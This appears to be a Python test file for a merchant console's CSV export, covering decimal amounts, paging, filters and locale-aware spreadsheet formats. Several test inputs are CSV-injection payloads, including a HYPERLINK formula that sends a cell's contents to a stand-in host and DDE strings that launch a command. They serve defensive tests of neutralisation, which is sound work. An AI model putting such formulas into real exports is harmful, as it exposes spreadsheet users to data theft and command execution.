"""Exporting search results to CSV: every page, amounts as plain decimals, written atomically."""

from __future__ import annotations

import csv

import pytest
from klarna_console.services.export import decimal_amount, export_orders, spreadsheet_safe
from klarna_console.store import SearchQuery

from .conftest import World


def test_decimal_amounts_follow_the_currency():
    assert decimal_amount(123450, "EUR") == "1234.50"
    assert decimal_amount(-5, "SEK") == "-0.05"
    assert decimal_amount(1500, "JPY") == "1500"
    assert decimal_amount(None, "EUR") == ""


async def test_every_page_of_the_query_is_written(world: World, tmp_path, monkeypatch):
    from klarna_console.services import export

    monkeypatch.setattr(export, "PAGE", 7)  # several pages out of the 40 demo orders
    seen: list[tuple[int, int]] = []
    target = tmp_path / "out.csv"
    target.write_text("an older export\n", encoding="utf-8")
    count = await export_orders(world.store, SearchQuery(), target, lambda done, total: seen.append((done, total)))
    rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert count == len(rows) == 40 and seen[-1] == (40, 40) and len(seen) == 6
    assert {r["order_id"] for r in rows} == set(world.sandbox.order_ids)
    some = world.sandbox.order(rows[0]["order_id"])
    assert rows[0]["order_amount"] == decimal_amount(some.order_amount, some.purchase_currency)
    assert rows[0]["currency"] == some.purchase_currency.upper()
    assert not (tmp_path / "out.csv.partial").exists()


async def test_a_filter_is_respected(world: World, tmp_path):
    count = await export_orders(world.store, SearchQuery(statuses=("CANCELLED",)), tmp_path / "c.csv")
    rows = list(csv.DictReader((tmp_path / "c.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert count == len(rows) > 0 and {r["status"] for r in rows} == {"CANCELLED"}


# OWASP "CSV Injection": a cell starting with = + - @, tab or carriage return is run as a formula by
# spreadsheet programs. Names, addresses and references are typed by shoppers.
@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://x.example/?"&A1,"Refund")', '\'=HYPERLINK("http://x.example/?"&A1,"Refund")'),
    ("+46 70 123 45 67", "'+46 70 123 45 67"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Ann-Marie =Ek", "Ann-Marie =Ek"),
    ("", ""),
])
def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(cell, written):
    assert spreadsheet_safe(cell) == written


@pytest.mark.parametrize("number", ["-12.50", "-0.05", "+5", "-1500", "1234.50"])
def test_a_plain_number_stays_a_number(number):
    # It cannot run as a formula, and with an apostrophe a refund's negative amount would no longer add up.
    assert spreadsheet_safe(number) == number


async def test_an_export_neutralises_what_shoppers_typed_and_keeps_negative_amounts(world: World, tmp_path):
    from fixtures.store import make_order

    order = make_order(order_id="evil-1", given="=cmd|' /C calc'!A0", family="@Evil", email="-x@example.com",
                       klarna_reference="+SUM(1)", order_amount=1250, refunded_amount=-500)
    await world.store.upsert_orders([order])
    await export_orders(world.store, SearchQuery(text="evil-1"), tmp_path / "x.csv")
    (row,) = list(csv.DictReader((tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert row["customer_name"] == "'=cmd|' /C calc'!A0 @Evil"
    assert row["email"] == "'-x@example.com" and row["klarna_reference"] == "'+SUM(1)"
    assert row["refunded_amount"] == decimal_amount(-500, order.purchase_currency) == "-5.00"


# Issue 16: two kinds of CSV file (README, "Exports"). Plain, for programs: "," and "1234.50" and ISO 8601
# UTC in every locale. For a spreadsheet in the user's locale: CLDR's decimal mark and date and time, and
# ";" between cells where the decimal mark is "," (Excel in those markets splits on the list separator ";").
@pytest.mark.parametrize("locale, separator, amount, refund", [
    ("de-DE", ";", "12,50", "-5,00"), ("sv-SE", ";", "12,50", "-5,00"), ("nl-NL", ";", "12,50", "-5,00"),
    ("en-GB", ",", "12.50", "-5.00"), (None, ",", "12.50", "-5.00"),
])
async def test_a_spreadsheet_export_follows_the_locale_and_a_plain_one_does_not(
        world: World, tmp_path, locale, separator, amount, refund):
    import datetime as dt

    from klarna_console.domain.dates import format_date, format_time
    from klarna_console.services.orders import parse_order_ids

    from fixtures.store import make_order

    created = dt.datetime(2026, 3, 9, 13, 5, tzinfo=dt.timezone.utc)
    order = make_order(order_id="0b6f2d3e-5a1c-4d7e-9f00-123456789abc", given="Åsa; Öberg", purchase_currency="EUR",
                       order_amount=1250, refunded_amount=-500, created_at=created)
    await world.store.upsert_orders([order])
    target = tmp_path / "orders.csv"
    await export_orders(world.store, SearchQuery(text=order.order_id), target, locale=locale)
    text = target.read_text(encoding="utf-8-sig")
    (row,) = list(csv.DictReader(text.splitlines(), delimiter=separator))
    assert (row["order_amount"], row["refunded_amount"]) == (amount, refund)  # a refund stays a number
    assert row["customer_name"].startswith("Åsa; Öberg")  # a separator inside a cell is quoted
    assert row["created_at"] == (f"{format_date(created, locale)} {format_time(created, locale)}" if locale
                                 else "2026-03-09T13:05:00+00:00")
    # An import reads the order ids of either kind back (services/orders.parse_order_ids).
    assert parse_order_ids(text)[0] == [order.order_id]


async def test_a_spreadsheet_payouts_export_follows_the_locale(world: World, tmp_path):
    import datetime as dt

    from klarna_console.api.settlement_models import Totals
    from klarna_console.services.payout_export import write_payouts_csv
    from klarna_console.store.values import PayoutRow

    day = dt.datetime(2026, 3, 9, tzinfo=dt.timezone.utc)
    payout = PayoutRow(payment_reference="P-1", payout_date=day, currency="SEK", settlement_amount=121086,
                       totals=Totals(sale_amount=123450, return_amount=500, fee_amount=1864, settlement_amount=121086),
                       transactions_synced=True)
    write_payouts_csv(tmp_path / "sv.csv", [payout], "sv-SE")
    write_payouts_csv(tmp_path / "plain.csv", [payout])
    (sv,) = list(csv.DictReader((tmp_path / "sv.csv").read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    (plain,) = list(csv.DictReader((tmp_path / "plain.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert (sv["payout_date"], sv["sale_amount"], sv["fee_amount"]) == ("2026-03-09", "1234,50", "18,64")
    assert (plain["payout_date"], plain["sale_amount"], plain["fee_amount"]) == (day.isoformat(), "1234.50", "18.64")
